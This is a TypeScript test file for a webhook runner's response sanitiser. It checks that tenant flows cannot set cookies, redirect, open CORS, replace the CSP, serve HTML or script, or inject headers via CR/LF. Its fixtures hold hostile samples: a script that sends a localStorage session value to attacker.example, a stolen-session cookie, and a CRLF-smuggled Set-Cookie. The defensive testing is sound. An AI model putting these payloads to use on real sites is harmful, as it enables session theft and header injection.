// Defect 2 and 7 of the security probe: what a tenant's webhook flow may put in a response served
// on the runner's origin (the WebChat page's origin too), and what happens when it cannot be sent.
import { SELF } from 'cloudflare:test';
import { describe, expect, it } from 'vitest';
import { channelObject, WEBHOOK_CHANNEL } from '../../src/objects.js';
import { webhookResponse } from '../../src/webhook/webhook.js';
import { injectedSession } from '../support/channel-session.js';
import { activate, seedPack, testEnv } from '../support/runtime-fixtures.js';

describe('flow responses on the runner origin', () => {
  const hostile = {
    status: 200,
    headers: {
      'Content-Type': 'text/html; charset=utf-8',
      'Set-Cookie': 'session=stolen; Path=/',
      Location: 'https://attacker.example/',
      'Access-Control-Allow-Origin': '*',
      'Content-Security-Policy': "script-src 'unsafe-inline'",
      'X-Flow': 'kept',
      'Cache-Control': 'no-store',
    },
    body: { text: '<script>fetch("https://attacker.example/?t=" + localStorage.getItem("greentic.webchat"))</script>' },
  };

  it('a flow cannot set cookies, redirect, open CORS or replace the CSP: those headers are dropped, allowed ones kept', () => {
    const res = webhookResponse(hostile);
    expect(res.headers.get('set-cookie')).toBeNull();
    expect(res.headers.get('location')).toBeNull();
    expect(res.headers.get('access-control-allow-origin')).toBeNull();
    expect(res.headers.get('content-security-policy')).toBe("default-src 'none'; frame-ancestors 'none'; sandbox");
    expect(res.headers.get('x-flow')).toBe('kept');
    expect(res.headers.get('cache-control')).toBe('no-store');
  });

  it('HTML, SVG, XML and script content types from a flow are served as text/plain with nosniff', () => {
    for (const type of ['text/html', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', 'application/rss+xml', 'text/javascript']) {
      const res = webhookResponse({ headers: { 'content-type': type }, body: '<x/>' });
      expect(res.headers.get('content-type'), type).toBe('text/plain; charset=utf-8');
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
    }
    expect(
      webhookResponse({ headers: { 'content-type': 'application/pdf' }, body: { base16: '25504446' } }).headers.get('content-type'),
    ).toBe('application/pdf');
  });

  it('every webhook answer, errors included, carries nosniff and a sandboxing CSP', async () => {
    for (const res of [webhookResponse('pong'), webhookResponse([1, 2]), await SELF.fetch('http://runner/v1/webhook/nobody/hook')]) {
      expect(res.headers.get('x-content-type-options')).toBe('nosniff');
      expect(res.headers.get('content-security-policy')).toContain('sandbox');
    }
  });

  it('a CR/LF or an invalid name in a flow response header answers 502 with the reason', async () => {
    const crlf = webhookResponse({ headers: { 'x-a': 'ok\r\nSet-Cookie: a=b' }, body: 'x' });
    expect(crlf.status).toBe(502);
    expect(((await crlf.json()) as { message: string }).message).toContain('"x-a" contains CR, LF or NUL');
    const badName = webhookResponse({ headers: { 'bad name': 'v' }, body: 'x' });
    expect(badName.status).toBe(502);
    expect(((await badName.json()) as { message: string }).message).toContain('"bad name" is not a valid HTTP field name');
  });

  it("a run whose output is not a valid HTTP response is not recorded as its Idempotency-Key's result", async () => {
    const flow = `id: echo-headers
type: http
nodes:
  answer:
    component.exec:
      component: echo
      operation: run
      input:
        status: 200
        headers: { x-echo: "{{in.query.v}}" }
        body: { text: done }
    routing: out
`;
    const digest = await seedPack('hooks-crlf', '1.0.0', [flow]);
    await activate('wh-crlf', 'hooks-crlf', digest);
    const session = injectedSession(
      channelObject(testEnv, { env: 'dev', tenant: 'wh-crlf', team: 'default', channel: WEBHOOK_CHANNEL }, 'echo-headers'),
      {
        invoker: () => ({ invoke: async (_target, _op, input) => ({ ok: true, output: input }) }),
      },
    );
    const call = (v: string) =>
      session.runWebhook({ tenant: 'wh-crlf', flowId: 'echo-headers', input: { query: { v } }, idempotencyKey: 'same-key' });

    const bad = await call('a\nb');
    expect(bad).toMatchObject({ status: 'error', code: 'InvalidFlowOutput', replayed: false });
    const good = await call('fine');
    expect(good).toMatchObject({ status: 'done', replayed: false, output: { headers: { 'x-echo': 'fine' } } });
    expect(await call('later')).toMatchObject({ status: 'done', replayed: true, output: { headers: { 'x-echo': 'fine' } } });
  });
});
